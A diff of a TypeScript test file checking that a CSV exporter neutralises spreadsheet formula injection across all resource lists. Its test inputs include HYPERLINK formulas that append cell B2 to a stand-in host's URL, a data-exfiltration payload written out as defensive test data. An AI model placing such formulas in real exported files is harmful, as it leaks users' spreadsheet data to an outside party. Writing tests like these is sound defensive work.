@@ -1,4 +1,15 @@
+import * as contract from '@angan/shared/contract';
+import type { AnyResource } from '@angan/shared/contract';
+import { parse } from 'papaparse';
+import { fieldsOf } from '../fields/form-fields.ts';
 import { readCsv, writeCsv } from './csv.ts';
+import { exportedTable } from './export-rows.ts';
+import { filePlan } from './file-columns.ts';
+
+const isResource = (value: object): value is AnyResource => 'firstInFiles' in value;
+const lists = Object.values(contract).filter(
+  (value): value is AnyResource => typeof value === 'object' && isResource(value),
+);
 
 it('writes what it can read again, under the mark that Excel needs', () => {
   const table = [
@@ -11,13 +22,27 @@ it('writes what it can read again, under the mark that Excel needs', () => {
 });
 
 it.each([
-  ...['=1+1', '+8801712345678', '-5', '@SUM(A1)', '\tx', '\rx', '\n=1', '\uff1d1+1'],
+  ...['=1+1', '+8801712345678', '-5', '@SUM(A1)', '\tx', '\rx', '\uff1d1+1'],
   // A parser's pattern that ends at the first line lets this one through.
   '=HYPERLINK("http://x.example/?"&B2,\n"open")',
 ])('makes %j harmless in a spreadsheet and reads it back as it was', (cell) => {
   expect(writeCsv([[cell]])).toContain(`'${cell.replaceAll('"', '""')}`);
   expect(readCsv(writeCsv([[cell, 'ঠিক']]))).toEqual([[cell, 'ঠিক']]);
 });
+
+const FORMULA = '=HYPERLINK("http://a.example/?"&B2,\n"open")';
+
+it.each(lists.map((list) => [list.path, list] as const))(
+  'exports no live formula of %s, whichever field holds it',
+  (_path, list) => {
+    const plan = filePlan(list, fieldsOf(list));
+    const row = Object.fromEntries(plan.columns.map(({ name }) => [name, FORMULA]));
+    const table = exportedTable(plan, [row]);
+    const { data } = parse<string[]>(writeCsv(table).trimEnd());
+    expect(data[1]).toEqual(plan.columns.map(() => `'${FORMULA}`));
+    expect(readCsv(writeCsv(table))).toEqual(table);
+  },
+);
 
 it('reads semicolons and tabs, any line end, and a last line without one', () => {
   expect(readCsv('ক;খ\r১;২\r৩;৪')).toEqual([
